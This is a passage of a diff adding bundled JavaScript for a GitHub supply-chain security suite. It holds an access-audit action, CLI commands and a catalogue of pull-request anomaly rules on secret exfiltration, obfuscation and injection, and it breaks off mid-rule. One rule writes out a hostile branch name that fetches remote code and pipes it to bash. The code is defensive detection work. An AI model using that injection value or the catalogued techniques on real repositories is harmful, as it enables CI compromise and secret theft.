+        return { why: 'GITHUB_REPOSITORY is not set' };
+    let why = 'no token to ask GitHub with';
+    for (const token of tokens.filter(Boolean)) {
+        try {
+            const { data } = await (await ctx.github(token)).rest.request('GET /repos/{owner}/{repo}', { owner, repo });
+            return { public: visible(data) };
+        }
+        catch (e) {
+            why = (0,src/* describeApiError */.gg)(e, 'metadata: read');
+        }
+    }
+    return { why };
+}
+const definition = {
+    name: 'access-audit',
+    rules: REGISTRY,
+    configSchema: config_schema_namespaceObject,
+    async run(ctx) {
+        const { inputs } = ctx;
+        const token = inputs.string('token', { required: true });
+        const org = inputs.string('org') || (ctx.env.GITHUB_REPOSITORY ?? '').split('/')[0];
+        const repositories = inputs.list('repositories');
+        const includeArchived = inputs.boolean('include-archived', false);
+        const includeForks = inputs.boolean('include-forks', false);
+        const inactiveDays = inputs.integer('inactive-days', 180, { min: 1 });
+        inputs.boolean('issue', true);
+        inputs.string('issue-token');
+        const previousFile = inputs.string('previous-report');
+        const mergeFiles = inputs.lines('merge-reports');
+        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org');
+        const shard = parseShard(inputs.string('shard'));
+        const previous = previousFile ? await readReport(ctx, previousFile) : undefined;
+        const allowPublic = inputs.boolean('allow-public-repository', false);
+        // The report names people without 2FA, secret names and weak settings: in a public repository
+        // the job summary, the logs and the dashboard issue are readable by anyone.
+        if (ctx.env.GITHUB_ACTIONS === 'true' && !allowPublic) {
+            const where = ctx.env.GITHUB_REPOSITORY ?? 'this repository';
+            const visibility = await isPublicRepository(ctx, [inputs.string('issue-token'), token]);
+            if (visibility.public !== false) {
+                throw new src/* UserError */.yo(`${where} ${visibility.public ? 'is public' : `may be public (its visibility could not be read: ${visibility.why})`}: the audit's summary, logs and dashboard issue would show anyone who lacks 2FA, secret names and weak settings. Run it from a private repository (for example ${(ctx.env.GITHUB_REPOSITORY ?? 'org/').split('/')[0]}/.github-private), or set allow-public-repository: true.`);
+            }
+        }
+        if (mergeFiles.length) {
+            const merged = mergeReports(await Promise.all(mergeFiles.map((f) => readReport(ctx, f))));
+            dashboard = { org: merged.target ?? org, audited: merged.audited, previous };
+            return {
+                rules: merged.rules,
+                findings: merged.findings,
+                notChecked: merged.notChecked,
+                notes: merged.notes,
+                target: merged.target,
+                data: merged.data,
+                stats: merged.stats,
+                preamble: dashboardPreamble(dashboard, merged.findings, merged.notChecked),
+                outputs: {
+                    'repos-audited': String(merged.audited),
+                    'repos-skipped': String(merged.skipped),
+                    'api-requests': String(merged.requests)
+                }
+            };
+        }
+        if (!org)
+            throw new src/* UserError */.yo("Input 'org' is empty and GITHUB_REPOSITORY is not set.");
+        const client = await ctx.github(token);
+        const result = await audit(auditIO(client), {
+            org,
+            repositories,
+            includeArchived,
+            includeForks,
+            inactiveDays,
+            shard,
+            now: new Date(),
+            config: auditConfig(ctx.config.sections['access-audit']),
+            previous: previous?.data?.access
+                ? { finishedAt: previous.finishedAt, access: previous.data.access }
+                : undefined,
+            pypi: new src/* PyPIClient */.Ms(pypiUrl, new src/* HttpClient */.Qq('PyPI', { userAgent: 'security-actions access-audit' }))
+        });
+        dashboard = { org, audited: result.audited, previous };
+        return {
+            rules: result.rules,
+            findings: result.findings,
+            notChecked: result.notChecked,
+            notes: result.notes,
+            suppressions: result.suppressions,
+            target: result.target,
+            data: { access: result.access },
+            stats: { 'repos audited': result.audited, 'repos skipped': result.skipped, 'repos listed': result.listed },
+            preamble: dashboardPreamble(dashboard, result.findings, result.notChecked),
+            outputs: {
+                'repos-audited': String(result.audited),
+                'repos-skipped': String(result.skipped),
+                'api-requests': String(client.stats.requests)
+            }
+        };
+    },
+    async publish(ctx, report) {
+        if (!ctx.inputs.boolean('issue', true) || !dashboard)
+            return;
+        const token = ctx.inputs.string('issue-token');
+        const repo = ctx.env.GITHUB_REPOSITORY;
+        if (!token || !repo)
+            return ['dashboard issue not updated: issue-token or GITHUB_REPOSITORY is empty'];
+        const client = await ctx.github(token);
+        const marker = `security-actions:access-audit:${dashboard.org}`;
+        const body = (0,src/* renderMarkdown */.Gc)(report, {
+            marker,
+            preamble: dashboardPreamble(dashboard, report.findings, report.notChecked)
+        });
+        return [await publishDashboard(client.rest, repo, marker, body)];
+    }
+};
+async function run(runtime) {
+    await runAction(definition, runtime ?? (await actionsRuntime()));
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/audit.ts
+
+
+const audit_audit = {
+    summary: 'audit who holds the keys of a GitHub organization (SPEC 6, SPEC 8)',
+    usage: '--org ORG [--token TOKEN] [--repositories GLOBS] [options]',
+    // It reads GitHub, not a checkout; --config is read from the current directory.
+    checkout: false,
+    checks: [
+        {
+            definition: definition,
+            // Locally there is no dashboard issue to keep.
+            fixed: { issue: 'false' },
+            inputs: {
+                org: 'org',
+                token: 'token',
+                repositories: 'repositories',
+                'include-archived': 'include-archived',
+                'include-forks': 'include-forks',
+                'inactive-days': 'inactive-days',
+                shard: 'shard',
+                'previous-report': 'previous-report'
+            }
+        }
+    ],
+    options: {
+        org: { type: 'string', value: 'ORG', required: true, help: 'organization to audit' },
+        token: {
+            type: 'string',
+            value: 'TOKEN',
+            env: 'GITHUB_TOKEN',
+            required: true,
+            help: 'read-only token (default: $GITHUB_TOKEN); it goes to GitHub only, never to output'
+        },
+        repositories: { type: 'string', value: 'GLOBS', help: 'comma-separated repository names or globs' },
+        'include-archived': { type: 'boolean', help: 'also audit archived repositories' },
+        'include-forks': { type: 'boolean', help: 'also audit forks' },
+        'inactive-days': {
+            type: 'string',
+            value: 'DAYS',
+            help: 'days without activity before a maintainer is "possibly inactive" (default: 180)'
+        },
+        shard: { type: 'string', value: 'I/N', help: 'audit one shard of the repositories, e.g. 2/4' },
+        'previous-report': {
+            type: 'string',
+            value: 'FILE',
+            help: 'JSON report of the previous run, for the trend and the people who left'
+        },
+        ...REPORT_OPTIONS
+    }
+};
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
+// EXTERNAL MODULE: external "node:url"
+var external_node_url_ = __nccwpck_require__(3136);
+;// CONCATENATED MODULE: external "node:os"
+const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
+;// CONCATENATED MODULE: ./packages/cli/src/runtime.ts
+
+function cliRuntime(env, warn, progress) {
+    const rt = {
+        env,
+        outputs: {},
+        now: () => new Date(),
+        setOutput: (n, v) => {
+            rt.outputs[n] = v;
+        },
+        // The CLI decides the exit status from the report itself (main.ts).
+        setFailed: () => undefined,
+        appendSummary: async () => undefined,
+        annotate: () => undefined,
+        info: (m) => progress.message((0,src/* redact */.E$)(m)),
+        warning: (m) => warn(`warning: ${(0,src/* redact */.E$)(m)}`),
+        debug: () => undefined
+    };
+    return rt;
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/run.ts
+// Runs a report command's checks: each is an action definition run through
+// the shared adapter, with the command's flags mapped to the action's inputs.
+// The adapter's own report files go to a temporary directory; the command
+// prints and writes its reports itself, from the Report objects.
+
+
+
+
+
+
+/** Common inputs every reporting action reads, and the flag that sets each. */
+const COMMON_INPUTS = { config: 'config', 'fail-on': 'fail-on' };
+/** The checkout named by --repo: a local directory that exists; a URL is refused with what to do instead. */
+async function checkoutOf(values, io) {
+    const given = typeof values.repo === 'string' ? values.repo : '.';
+    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(given) || /^[\w.-]+@[\w.-]+:/.test(given))
+        throw new UsageError(`--repo takes a local checkout, not a URL; clone it first (git clone ${given} DIR) and give --repo DIR`);
+    const dir = (0,external_node_path_.resolve)(io.cwd, given);
+    const s = await (0,promises_.stat)(dir).catch(() => undefined);
+    if (!s)
+        throw new UsageError(`--repo ${given}: no such directory`);
+    if (!s.isDirectory())
+        throw new UsageError(`--repo ${given}: not a directory`);
+    return dir;
+}
+/** The value of each flag that has one, from the command line or its environment variable. */
+function flagValue(cmd, values, io, flag) {
+    const v = values[flag];
+    if (typeof v === 'boolean')
+        return String(v);
+    if (typeof v === 'string')
+        return v;
+    const env = cmd.options[flag]?.env;
+    return env ? io.env[env] || undefined : undefined;
+}
+async function runChecks(cmd, values, io, progress) {
+    const workspace = cmd.checkout ? await checkoutOf(values, io) : io.cwd;
+    const runs = [];
+    for (const check of cmd.checks) {
+        const temp = await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), 'sp-security-'));
+        const env = {
+            PATH: io.env.PATH,
+            HOME: io.env.HOME,
+            GITHUB_WORKSPACE: workspace,
+            RUNNER_TEMP: temp,
+            GITHUB_API_URL: io.env.GITHUB_API_URL,
+            GITHUB_GRAPHQL_URL: io.env.GITHUB_GRAPHQL_URL
+        };
+        const set = (input, v) => {
+            if (v !== undefined)
+                env[(0,src/* inputEnvName */.d_)(input)] = v;
+        };
+        for (const [flag, input] of Object.entries(COMMON_INPUTS))
+            set(input, flagValue(cmd, values, io, flag));
+        for (const [k, v] of Object.entries(check.fixed ?? {}))
+            set(k, v);
+        for (const [flag, input] of Object.entries(check.inputs))
+            set(input, flagValue(cmd, values, io, flag));
+        let failure;
+        const rt = cliRuntime(env, io.err, progress);
+        rt.setFailed = (m) => {
+            failure = m;
+        };
+        progress.start(check.definition.name);
+        let report;
+        try {
+            report = await (0,src/* runAction */.Cs)(check.definition, rt);
+        }
+        finally {
+            progress.stop();
+            await (0,promises_.rm)(temp, { recursive: true, force: true });
+        }
+        runs.push({ check, report: inFlagWords(report, cmd, check), failed: failure !== undefined });
+    }
+    return { workspace, runs };
+}
+/** The report's messages with each input the command sets through a flag named as that flag. */
+function inFlagWords(report, cmd, check) {
+    const flags = new Map();
+    for (const [flag, input] of Object.entries({ ...COMMON_INPUTS, ...check.inputs })) {
+        const env = cmd.options[flag]?.env;
+        flags.set(input, `--${flag}${env ? ` (or ${env})` : ''}`);
+    }
+    const say = (m) => (0,src/* renameInputs */.aZ)(m, (input) => flags.get(input));
+    return {
+        ...report,
+        errors: report.errors.map(say),
+        notes: report.notes.map(say),
+        notChecked: report.notChecked.map((n) => ({ ...n, reason: say(n.reason) }))
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/init.ts
+// `init`: drop the suite's starter workflows (workflows-templates/*.yml, as
+// committed: every action pinned to a full SHA with a comment naming its
+// release tag) and a config file into a repository, or with --org into the
+// `workflow-templates/` folder of an organization's `.github` repository,
+// where GitHub offers org starter workflows. Nothing is overwritten without
+// --force, and nothing is written unless every file can be.
+
+
+
+
+
+
+
+
+/** What a project repository gets unless --workflows says otherwise; access-audit belongs in a private org repository. */
+const PROJECT_DEFAULT = ['pr-anomaly-scan', 'release', 'verify-deps'];
+const SUITE = 'scientific-python/security-actions';
+/** This suite's checkout (the CLI runs from it): the folder above this file that holds workflows-templates/. */
+function suiteRoot() {
+    let dir = (0,external_node_path_.dirname)((0,external_node_url_.fileURLToPath)(import.meta.url));
+    while (!(0,external_node_fs_.existsSync)((0,external_node_path_.join)(dir, 'workflows-templates')) || !(0,external_node_fs_.existsSync)((0,external_node_path_.join)(dir, 'package.json'))) {
+        const up = (0,external_node_path_.dirname)(dir);
+        if (up === dir)
+            throw new Error('cannot find workflows-templates/ beside this sp-security');
+        dir = up;
+    }
+    return dir;
+}
+/** The release tag the templates pin this suite at (`@<sha> # vX.Y.Z`). */
+function pinnedTag(texts) {
+    for (const t of texts) {
+        const m = new RegExp(`${SUITE}/actions/[a-z0-9-]+@[0-9a-f]{40} # (v\\d+\\.\\d+\\.\\d+\\S*)`).exec(t);
+        if (m)
+            return m[1];
+    }
+    return `v${src/* VERSION */.xv}`;
+}
+function schemaUrl(tag) {
+    return `https://raw.githubusercontent.com/${SUITE}/${tag}/packages/core/schema/config.schema.json`;
+}
+/** A starter config: valid as it stands, with the two common settings shown as comments. */
+function starterConfig(tag) {
+    return `# yaml-language-server: $schema=${schemaUrl(tag)}
+# security-actions settings for this repository: docs/configuration.md in
+# https://github.com/${SUITE}/tree/${tag}
+version: 1
+
+# Severity overrides, by rule id (the rule ids are in every report):
+# rules:
+#   actions/no-version-comment:
+#     severity: info
+#     reason: Dependabot keeps our pins; the comment is nice to have.
+
+# Suppressions: each needs a reason and should expire; the findings come back after that day.
+# ignores:
+#   - rule: actions/docker-unpinned
+#     path: .github/workflows/release.yml
+#     reason: The image only prints its version; tracked in issue 42.
+#     expires: 2026-12-31
+`;
+}
+const init = {
+    summary: "write the starter workflows and a config into a repository, or into an organization's .github repository",
+    usage: '[--repo PATH] [--org] [--workflows LIST] [--force]',
+    options: {
+        ...REPO_OPTION,
+        org: {
+            type: 'boolean',
+            help: "PATH is a checkout of the organization's .github repository: write the starter workflows and their .properties.json into its workflow-templates/, where GitHub offers them to every repository of the organization"
+        },
+        workflows: {
+            type: 'string',
+            value: 'LIST',
+            help: `comma-separated: access-audit, pr-anomaly-scan, release, verify-deps, or all (default: ${PROJECT_DEFAULT.join(', ')}; with --org, all)`
+        },
+        force: { type: 'boolean', help: 'overwrite files that exist' },
+        ...HELP_OPTION
+    },
+    notes: [
+        'The workflows pin every action to a full commit SHA with a comment naming its release tag, as the suite asks of others.',
+        'Exit status: 0 written; 2 a usage error, or a file exists and --force was not given (then nothing is written).'
+    ],
+    async run(values, io) {
+        const target = await checkoutOf(values, io);
+        const root = suiteRoot();
+        const available = (await (0,promises_.readdir)((0,external_node_path_.join)(root, 'workflows-templates')))
+            .filter((f) => f.endsWith('.yml'))
+            .map((f) => f.slice(0, -4))
+            .sort();
+        const asked = typeof values.workflows === 'string' ? values.workflows.split(',').map((s) => s.trim()) : [];
+        const names = asked.includes('all')
+            ? available
+            : asked.filter(Boolean).length
+                ? asked
+                : values.org
+                    ? available
+                    : PROJECT_DEFAULT;
+        const unknown = names.filter((n) => !available.includes(n));
+        if (unknown.length)
+            throw new UsageError(`--workflows: no starter workflow named ${unknown.join(', ')} (there are: ${available.join(', ')})`);
+        const read = (f) => (0,promises_.readFile)((0,external_node_path_.join)(root, 'workflows-templates', f), 'utf8');
+        const files = new Map();
+        for (const n of names) {
+            if (values.org) {
+                files.set(`workflow-templates/${n}.yml`, await read(`${n}.yml`));
+                files.set(`workflow-templates/${n}.properties.json`, await read(`${n}.properties.json`));
+            }
+            else
+                files.set(`.github/workflows/${n}.yml`, await read(`${n}.yml`));
+        }
+        if (!values.org)
+            files.set(src/* DEFAULT_CONFIG_PATH */.Bi, starterConfig(pinnedTag([...files.values()])));
+        const existing = [...files.keys()].filter((f) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(target, f)));
+        if (existing.length && !values.force) {
+            io.err(`init: not overwriting ${existing.join(', ')} in ${target} (give --force to replace them); nothing written`);
+            return EXIT.usage;
+        }
+        for (const [f, text] of files) {
+            await (0,promises_.mkdir)((0,external_node_path_.dirname)((0,external_node_path_.join)(target, f)), { recursive: true });
+            await (0,promises_.writeFile)((0,external_node_path_.join)(target, f), text);
+            io.out(`wrote ${(0,external_node_path_.relative)(io.cwd, (0,external_node_path_.join)(target, f)) || f}\n`);
+        }
+        io.out(values.org
+            ? "\nCommit them to the default branch of the organization's .github repository: GitHub then offers them under Actions → New workflow in every repository.\n"
+            : '\nReview and commit them. Each workflow says at its top what it needs first (release.yml: a protected `pypi` environment and a trusted publisher on PyPI).\n');
+        return EXIT.ok;
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/incidents.ts
+// The incidents the rules cite as references.
+const XZ = {
+    title: 'xz-utils backdoor (CVE-2024-3094)',
+    url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
+};
+const ULTRALYTICS = {
+    title: 'Ultralytics branch-name injection (2024)',
+    url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection'
+};
+const TJ = {
+    title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
+    url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
+};
+const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
+const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
+const PYTORCH = {
+    title: 'PyTorch self-hosted runner compromise (2024)',
+    url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
+};
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
+// code-scanning alerts refer to them. A rule's group (its id's prefix) is the
+// family the risk score chains.
+
+
+// --- workflows ---------------------------------------------------------------
+const rules_RULES = (0,src/* defineRules */.x0)({
+    WF_DANGEROUS_TRIGGER: {
+        id: 'workflow/dangerous-trigger',
+        title: 'pull_request_target / workflow_run workflow that uses PR code',
+        severity: 'critical',
+        why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
+        remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+        spec: ['S8-16', 'S8-6'],
+        references: [ULTRALYTICS, PYTORCH]
+    },
+    WF_TEMPLATE_INJECTION: {
+        id: 'workflow/template-injection',
+        title: 'Attacker-controlled expression expanded into a script',
+        severity: 'high',
+        why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
+        remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    WF_SECRETS_EXFIL: {
+        id: 'workflow/secrets-to-outside-host',
+        title: 'Workflow sends secrets to an outside host',
+        severity: 'critical',
+        why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
+        remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
+        spec: ['S6-7', 'S8-16'],
+        references: [GHOST]
+    },
+    WF_TOJSON_SECRETS: {
+        id: 'workflow/all-secrets',
+        title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
+        severity: 'high',
+        why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
+        remediation: 'Pass only the named secrets the step needs.',
+        spec: ['S6-7', 'S6-4'],
+        references: [GHOST]
+    },
+    WF_SELF_HOSTED: {
+        id: 'workflow/self-hosted-pr',
+        title: 'Self-hosted runner reachable from pull requests',
+        severity: 'high',
+        why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
+        remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+        spec: ['S8-16'],
+        references: [PYTORCH]
+    },
+    WF_UNPINNED: {
+        id: 'workflow/unpinned-uses',
+        title: 'New action reference not pinned to a commit SHA',
+        severity: 'medium',
+        why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
+        remediation: 'Pin the action to the full commit SHA with the version as a comment.',
+        spec: ['S8-9'],
+        references: [TJ]
+    },
+    WF_PERMISSIONS: {
+        id: 'workflow/write-permissions',
+        title: 'New write permissions for the workflow token',
+        severity: 'medium',
+        why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
+        remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
+        spec: ['S8-6']
+    },
+    WF_UNTRUSTED_TRIGGER: {
+        id: 'workflow/untrusted-trigger',
+        title: 'New trigger on comments or discussions',
+        severity: 'medium',
+        why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
+        remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    WF_RUNNER_REGISTRATION: {
+        id: 'workflow/runner-registration',
+        title: 'Workflow registers a self-hosted runner',
+        severity: 'critical',
+        why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
+        remediation: 'Remove the step; register runners by hand from a trusted machine.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    // --- build system ------------------------------------------------------------
+    BUILD_SETUP_PY: {
+        id: 'build/setup-py',
+        title: 'setup.py gains install-time code (cmdclass, network, processes)',
+        severity: 'high',
+        why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
+        remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
+        spec: ['S8-16']
+    },
+    BUILD_BACKEND: {
+        id: 'build/build-backend',
+        title: 'Build backend changed',
+        severity: 'high',
+        why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
+        remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+        spec: ['S8-16']
+    },
+    BUILD_NATIVE: {
+        id: 'build/native-build-script',
+        title: 'Meson or CMake script runs commands or downloads',
+        severity: 'medium',
+        why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
+        remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_AUTOTOOLS: {
+        id: 'build/autotools',
+        title: 'Autotools or m4 macro changed',
+        severity: 'medium',
+        why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
+        remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_TEST_HOOK: {
+        id: 'build/test-runner-hook',
+        title: 'Test or task runner configuration runs processes or downloads',
+        severity: 'medium',
+        why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
+        remediation: 'Review the added command; keep network and process calls out of test configuration.',
+        spec: ['S8-16']
+    },
+    BUILD_PRECOMMIT_LOCAL: {
+        id: 'build/pre-commit-local',
+        title: 'Local pre-commit hook added',
+        severity: 'medium',
+        why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
+        remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
+        spec: ['S8-16']
+    },
+    BUILD_PTH: {
+        id: 'build/pth-file',
+        title: '`.pth` file added',
+        severity: 'high',
+        why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
+        remediation: 'Remove the file unless it only lists paths.',
+        spec: ['S8-16']
+    },
+    BUILD_IMPORT_PROCESS: {
+        id: 'build/import-time-process',
+        title: 'Process or thread started at import time',
+        severity: 'medium',
+        why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
+        remediation: 'Move the call into a function called explicitly.',
+        spec: ['S8-16']
+    },
+    // --- opaque content ----------------------------------------------------------
+    BIN_OPAQUE: {
+        id: 'binary/opaque-file',
+        title: 'Opaque binary file added or changed',
+        severity: 'medium',
+        why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
+        remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_EXECUTABLE: {
+        id: 'binary/executable',
+        title: 'Executable or loadable binary added',
+        severity: 'high',
+        why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
+        remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    BIN_ARCHIVE_TESTS: {
+        id: 'binary/compressed-test-data',
+        title: 'Compressed archive or blob under tests',
+        severity: 'medium',
+        why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
+        remediation: 'Ask how the fixture was generated and regenerate it yourself.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_ONLY: {
+        id: 'binary/binary-only-change',
+        title: 'Binary files changed with no text change',
+        severity: 'high',
+        why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
+        remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    // --- obfuscation ---------------------------------------------------------------
+    OBF_ENCODED_EXEC: {
+        id: 'obfuscation/encoded-exec',
+        title: 'Encoded data reaches code execution',
+        severity: 'critical',
+        why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
+        remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    OBF_LONG_LITERAL: {
+        id: 'obfuscation/long-encoded-literal',
+        title: 'Long base64 or hex literal added',
+        severity: 'low',
+        why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
+        remediation: 'Check what the data decodes to and where it is used.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_DECOMPRESS: {
+        id: 'obfuscation/decompress-literal',
+        title: 'Literal decompressed or unmarshalled in code',
+        severity: 'high',
+        why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
+        remediation: 'Commit the plain content instead.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_CHR_CHAIN: {
+        id: 'obfuscation/char-code-chain',
+        title: 'String built from character codes',
+        severity: 'medium',
+        why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
+        remediation: 'Replace with the plain string and check what it was.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_PACKER: {
+        id: 'obfuscation/packer',
+        title: 'Packed or obfuscated code',
+        severity: 'high',
+        why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
+        remediation: 'Reject packed code; ask for the source.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_BUNDLE: {
+        id: 'obfuscation/bundled-js-payload',
+        title: 'Payload added to bundled JavaScript',
+        severity: 'high',
+        why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
+        remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    // --- Unicode ---------------------------------------------------------------------
+    UNI_BIDI: {
+        id: 'unicode/bidi-control',
+        title: 'Bidirectional control character',
+        severity: 'high',
+        why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
+        remediation: 'Remove the character; GitHub shows a warning banner on such files.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_INVISIBLE: {
+        id: 'unicode/invisible-character',
+        title: 'Invisible character in code',
+        severity: 'high',
+        why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
+        remediation: 'Remove the character or write it as an escape (`\\u200b`).',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_HOMOGLYPH: {
+        id: 'unicode/homoglyph',
+        title: 'Look-alike letters from another script',
+        severity: 'high',
+        why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
+        remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    // --- dependencies -----------------------------------------------------------------
+    DEP_NEW: {
+        id: 'deps/new-dependency',
+        title: 'New dependency',
+        severity: 'info',
+        why: "Each new dependency is code that runs in your users' environments.",
+        remediation: 'Check the project is maintained and the name is the one intended.',
+        spec: ['S8-16']
+    },
+    DEP_TYPOSQUAT: {
+        id: 'deps/typosquat',
+        title: 'Dependency name close to a popular package',
+        severity: 'high',
+        why: 'Typosquatted names are a common way malware reaches Python environments.',
+        remediation: 'Use the exact name of the intended package.',
+        spec: ['S8-16']
+    },
+    DEP_DIRECT_URL: {
+        id: 'deps/direct-url',
+        title: 'Direct URL or VCS dependency',
+        severity: 'medium',
+        why: 'A URL or git dependency bypasses the index and can change under the same name.',
+        remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
+        spec: ['S8-16']
+    },
+    DEP_INDEX_URL: {
+        id: 'deps/index-url',
+        title: 'New package index',
+        severity: 'high',
+        why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
+        remediation: 'Remove the index option unless it is an index you run.',
+        spec: ['S8-16']
+    },
+    // --- metadata -----------------------------------------------------------------------
+    META_REF_INJECTION: {
+        id: 'meta/branch-name-shell',
+        title: 'Shell syntax in the branch name',
+        severity: 'medium',
+        why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
+        remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    META_EMPTY_NEW: {
+        id: 'meta/empty-pr-new-account',
+        title: 'Near-empty PR from a new account',
+        severity: 'medium',
+        why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
+        remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
+        spec: ['S8-16']
+    },
+    META_BOT_IDENTITY: {
+        id: 'meta/unverified-bot-identity',
+        title: 'Commit claims a bot identity without verification',
+        severity: 'high',
+        why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
